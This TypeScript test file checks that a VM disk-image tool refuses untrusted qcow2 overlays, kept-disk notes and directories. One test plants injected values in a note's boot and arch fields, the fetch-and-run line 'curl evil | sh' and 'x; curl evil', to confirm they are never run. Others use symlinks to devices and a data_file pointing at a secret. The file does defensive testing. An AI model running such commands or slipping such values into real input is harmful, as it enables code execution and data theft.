import { execFileSync } from 'node:child_process'
import { chmodSync, chownSync, mkdirSync, renameSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { smallQcow2 } from '../../fixtures/images/small-qcow2.js'
import { exportDisk } from '../../src/image/export-disk.js'
import { findDisk } from '../../src/image/find-disk.js'
import { createOverlay } from '../../src/qcow2/create.js'
import { inspectImage } from '../../src/qcow2/inspect.js'
import { VmImageError } from '../../src/errors.js'
import { listKept, readKept } from '../../src/image/kept-note.js'
import { keptDirectory, overlayRuns } from '../../src/store/layout.js'
import { newOwner } from '../../src/store/owner.js'
import { errorOf } from '../support/error-of.js'
import { giveToNobody, isRoot, nobodyId } from '../support/nobody.js'
import { qemuImg } from '../support/qemu.js'
import { tempDir } from '../support/temp-dir.js'

/** A user's directories, with a secret beside them, and an overlay that somebody else has sent. */
async function makePlace() {
  const directory = await tempDir()
  const secret = join(directory.path, 'secret')
  writeFileSync(secret, Buffer.alloc(512, 'secret'))
  const sent = join(directory.path, 'sent')
  mkdirSync(sent)
  const base = join(sent, 'base.qcow2')
  writeFileSync(base, smallQcow2('find'))
  const disk = join(sent, 'disk.qcow2')
  createOverlay(disk, inspectImage(base))
  const context = {
    cacheDir: join(directory.path, 'cache'),
    overlayDir: join(directory.path, 'overlays'),
    extraCacheDirs: [],
  }
  return { directory, secret, sent, base, disk, context }
}

describe('findDisk()', () => {
  test('believes the header of an overlay in a directory of a run, whatever its base is, and of no other', async () => {
    const { directory, base, disk, context } = await makePlace()
    await using _ = directory
    expect(() => findDisk(disk, context)).toThrow(expect.objectContaining({ code: 'UNSAFE_IMAGE' }))
    const run = join(overlayRuns(context.overlayDir), newOwner())
    mkdirSync(run, { recursive: true })
    createOverlay(join(run, 'disk.qcow2'), inspectImage(base))
    expect(findDisk(join(run, 'disk.qcow2'), context).chain.base).toEqual({ path: base, format: 'qcow2' })
  })

  test.each(['by the directory', 'by the file'])(
    'believes no note that is not in the directory of kept disks: %s',
    async (by) => {
      const { directory, secret, sent, disk, context } = await makePlace()
      await using _ = directory
      const image = { name: 'x', version: '1', path: disk, baseImage: secret, baseFormat: 'raw', boot: '' }
      writeFileSync(join(sent, 'note.json'), JSON.stringify({ test: 'x', images: [image] }))
      const asked = by === 'by the file' ? disk : sent
      const error = await errorOf(Promise.resolve().then(() => findDisk(asked, context)))
      expect(error.code).toBe('UNSAFE_IMAGE')
      expect(error.message).toContain('--base FILE')
    },
  )

  test('follows a header to nothing beside it that is not frozen', async () => {
    const { directory, base, disk, sent, context } = await makePlace()
    await using _ = directory
    const fork = join(sent, 'fork.qcow2')
    createOverlay(fork, { ...inspectImage(base), path: disk, format: 'qcow2', isBeside: true })
    const find = () => findDisk(fork, context, base)
    expect((await errorOf(Promise.resolve().then(find))).message).toContain(
      'no frozen disk of the same owner',
    )
    chmodSync(disk, 0o444)
    expect(find().chain).toMatchObject({ path: fork, parents: [disk] })
  })

  test('follows a header to no frozen disk of another user', async ({ skip }) => {
    skip(!isRoot, 'only root can give a file to another user')
    const { directory, base, disk, sent, context } = await makePlace()
    await using _ = directory
    const fork = join(sent, 'fork.qcow2')
    createOverlay(fork, { ...inspectImage(base), path: disk, format: 'qcow2', isBeside: true })
    chmodSync(disk, 0o444)
    chownSync(disk, nobodyId, nobodyId)
    expect(() => findDisk(fork, context, base)).toThrow(/no frozen disk of the same owner/)
  })

  test('follows no chain in a circle, and none to a base in no format of ours', async () => {
    const { directory, base, disk, sent, context } = await makePlace()
    await using _ = directory
    const [one, two] = [join(sent, 'one'), join(sent, 'two')]
    const on = { ...inspectImage(base), format: 'qcow2', isBeside: true } as const
    createOverlay(one, { ...on, path: two })
    createOverlay(two, { ...on, path: one })
    for (const path of [one, two]) chmodSync(path, 0o444)
    expect(() => findDisk(one, context, base)).toThrow(/its chain has no end/)
    await qemuImg('rebase', '-u', '-f', 'qcow2', '-b', base, '-F', 'vmdk', disk)
    expect(() => findDisk(disk, context, base)).toThrow(/gives the base the format "vmdk"/)
  })

  test('takes no base by name that is none', async () => {
    const { directory, disk, secret, context } = await makePlace()
    await using _ = directory
    expect(() => findDisk(disk, context, secret)).toThrow(expect.objectContaining({ code: 'UNSAFE_IMAGE' }))
  })

  test('of a directory with several disks wants one by its path', async () => {
    const { directory, base, context } = await makePlace()
    await using _ = directory
    const { kept, paths } = keepTwo(base, context)
    expect(() => findDisk(kept, context)).toThrow(expect.objectContaining({ code: 'INVALID_REQUEST' }))
    expect(paths.map((path) => findDisk(path, context).chain.path)).toEqual(paths)
  })

  test.each([
    ['nothing', ''],
    ['a name that is too long', 'a'.repeat(300)],
    ['a NUL', 'a\0b'],
    ['a path below a file', '/etc/passwd/x'],
  ])('says in words that there is no disk at %s', async (_, asked) => {
    const { directory, context } = await makePlace()
    await using place = directory
    expect(place.path).not.toBe('')
    expect(() => findDisk(asked, context)).toThrow(VmImageError)
  })

  test('says of an image that is no overlay what looks at it', async () => {
    const { directory, base, context } = await makePlace()
    await using _ = directory
    expect(() => findDisk(base, context)).toThrow(/no overlay.*\n.*vmimage inspect/)
  })
})

describe('what somebody else has put where kept disks and runs are', () => {
  test.each(['kept', 'run'])('is not believed: %s', async (where) => {
    const { directory, base, context } = await makePlace()
    await using _ = directory
    const { paths } = keepTwo(base, context)
    const [kept = ''] = paths
    const run = join(overlayRuns(context.overlayDir), newOwner())
    mkdirSync(run, { recursive: true })
    createOverlay(join(run, 'disk.qcow2'), inspectImage(base))
    const path = where === 'kept' ? kept : join(run, 'disk.qcow2')
    expect(findDisk(path, context).chain.base.path).toBe(base)
    chmodSync(dirname(path), 0o777)
    expect(() => findDisk(path, context)).toThrow(expect.objectContaining({ code: 'UNSAFE_IMAGE' }))
    chmodSync(dirname(path), 0o700)
    chmodSync(dirname(dirname(path)), 0o777)
    expect(() => findDisk(path, context)).toThrow(expect.objectContaining({ code: 'CACHE_UNSAFE' }))
  })

  test('is refused as another user’s, and not listed either', async ({ skip }) => {
    skip(!isRoot, 'only root can give a directory to another user')
    const { directory, base, context } = await makePlace()
    await using _ = directory
    const { kept, paths } = keepTwo(base, context)
    giveToNobody(context.overlayDir)
    const unsafe = expect.objectContaining({ code: 'CACHE_UNSAFE' }) as unknown
    expect(() => findDisk(String(paths[0]), context)).toThrow(unsafe)
    expect(() => listKept(dirname(kept))).toThrow(unsafe)
    chownSync(context.overlayDir, 0, 0)
    chownSync(dirname(kept), 0, 0)
    expect(() => findDisk(String(paths[0]), context)).toThrow(
      expect.objectContaining({ code: 'UNSAFE_IMAGE' }),
    )
    expect(listKept(dirname(kept))).toEqual([])
  })

  test('a note gives no command: what boots a disk is made of its architecture, as one word', async () => {
    const { directory, base, context } = await makePlace()
    await using _ = directory
    const { kept } = keepTwo(base, context, { boot: 'curl evil | sh', arch: 'x; curl evil' })
    expect(listKept(dirname(kept)).flatMap(({ disks }) => disks.map(({ boot }) => boot))).toEqual([
      expect.stringMatching(/^qemu-system-'x; curl evil' -m 2048 /),
      expect.stringMatching(/^qemu-system-'x; curl evil' -m 2048 /),
    ])
  })

  test.each([
    ['a pipe', (path: string) => void execFileSync('mkfifo', [path])],
    ['a link to a device without end', (path: string) => symlinkSync('/dev/zero', path)],
    ['a link to a note', (path: string) => symlinkSync('other.json', path)],
    ['a directory', (path: string) => mkdirSync(path)],
    ['two megabytes', (path: string) => writeFileSync(path, `{"x":"${'x'.repeat(2_000_000)}"}`)],
  ])('is read without harm in the place of a note: %s', async (_, put) => {
    const { directory, sent } = await makePlace()
    await using place = directory
    expect(place.path).not.toBe('')
    writeFileSync(join(sent, 'other.json'), '{}')
    put(join(sent, 'note.json'))
    expect(readKept(sent)).toBeUndefined()
  })

  test('is not among the kept disks while it has an owner’s name', async () => {
    const { directory, base, context } = await makePlace()
    await using _ = directory
    const { kept } = keepTwo(base, context)
    renameSync(kept, join(dirname(kept), newOwner()))
    expect(listKept(dirname(kept))).toEqual([])
  })
})

/** A kept directory with two disks. */
function keepTwo(base: string, { overlayDir }: { readonly overlayDir: string }, more: object = {}) {
  const kept = join(keptDirectory(overlayDir), 'two')
  mkdirSync(kept, { recursive: true, mode: 0o700 })
  const paths = ['one.qcow2', 'two.qcow2'].map((name) => join(kept, name))
  for (const path of paths) createOverlay(path, inspectImage(base))
  const images = paths.map((path) => ({
    name: 'x',
    version: '1',
    path,
    baseImage: base,
    baseFormat: 'qcow2',
    ...more,
  }))
  writeFileSync(join(kept, 'note.json'), JSON.stringify({ test: 'x', keptAt: '2026', images }))
  return { kept, paths }
}

test('exportDisk() refuses an overlay that keeps its data in a file that it names', async () => {
  const { directory, secret, base, sent } = await makePlace()
  await using _ = directory
  const disk = join(sent, 'data-file.qcow2')
  await qemuImg('create', '-q', '-f', 'qcow2', '-o', `data_file=${secret},data_file_raw=off`, disk, '1M')
  const chain = { path: disk, parents: [], base: { path: base, format: 'qcow2' as const } }
  const error = await errorOf(exportDisk(chain, join(sent, 'out.raw'), { format: 'raw' }))
  expect(error.code).toBe('UNSAFE_IMAGE')
})
